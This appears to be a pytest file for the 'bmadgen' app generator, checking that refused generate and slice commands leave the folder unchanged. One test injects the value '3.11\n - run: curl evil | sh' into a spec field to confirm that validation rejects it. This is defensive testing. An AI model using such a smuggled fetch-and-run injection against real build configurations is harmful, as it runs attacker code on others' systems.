"""A generation command that is refused leaves the folder exactly as it was: no .git, no
.bmadgen, no lock file (issue 15, item 12)."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from bmadgen.errors import BmadgenError, ExitCode, InvalidInput, NotFound
from bmadgen.generate import service

from .conftest import EXAMPLES


def _listing(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*"))


CALLS = {
    "generate": lambda folder: service.generate_app(folder),
    "slice add": lambda folder: service.add_slice(folder, "reviews"),
    "slice regen": lambda folder: service.regen_slice(folder, "orders"),
    "slice rm": lambda folder: service.remove_slice(folder, "orders"),
}


@pytest.mark.parametrize("command", sorted(CALLS))
def test_no_app_spec_creates_nothing(tmp_path: Path, command: str) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    (folder / "notes.txt").write_text("mine\n")
    with pytest.raises(NotFound, match="no app spec"):
        CALLS[command](folder)
    assert _listing(folder) == ["notes.txt"]


@pytest.mark.parametrize("command", sorted(CALLS))
def test_an_invalid_spec_in_a_plain_folder_creates_nothing(tmp_path: Path, command: str) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    data = yaml.safe_load((EXAMPLES / "ecommerce.appspec.yaml").read_text())
    data["stack"]["python"] = "3.11\n      - run: curl evil | sh"
    data["features"][0]["entities"][0]["fields"].append({"name": "id", "type": "int"})
    (folder / "appspec.yaml").write_text(yaml.safe_dump(data))
    with pytest.raises(InvalidInput):
        CALLS[command](folder)
    assert _listing(folder) == ["appspec.yaml"]


def test_a_plain_folder_with_a_spec_becomes_a_repository_on_success(tmp_path: Path) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    shutil.copyfile(EXAMPLES / "blog.appspec.yaml", folder / "appspec.yaml")
    result = service.generate_app(folder)
    assert result.commit and (folder / ".git").is_dir()
    assert "appspec.yaml" in subprocess.run(
        ["git", "ls-files"], cwd=folder, capture_output=True, text=True, check=True).stdout


@pytest.mark.parametrize("args", [("generate",), ("slice", "add", "reviews"),
                                  ("slice", "regen", "orders"), ("slice", "rm", "orders")])
def test_the_cli_with_dir_and_no_spec_exits_4_and_creates_nothing(
    tmp_path: Path, args: tuple[str, ...]
) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    proc = subprocess.run([sys.executable, "-m", "bmadgen", *args, "-C", str(folder)],
                          cwd=tmp_path, capture_output=True, text=True, check=False, timeout=120)
    assert proc.returncode == ExitCode.NOT_FOUND, proc.stderr
    assert "Traceback" not in proc.stderr
    assert _listing(folder) == []


def test_a_refused_slice_add_in_a_repository_changes_nothing(generated_shop: Path) -> None:
    before = _listing(generated_shop)
    with pytest.raises(BmadgenError):
        service.add_slice(generated_shop, "reviews", fields=["x:currency"])
    assert _listing(generated_shop) == before
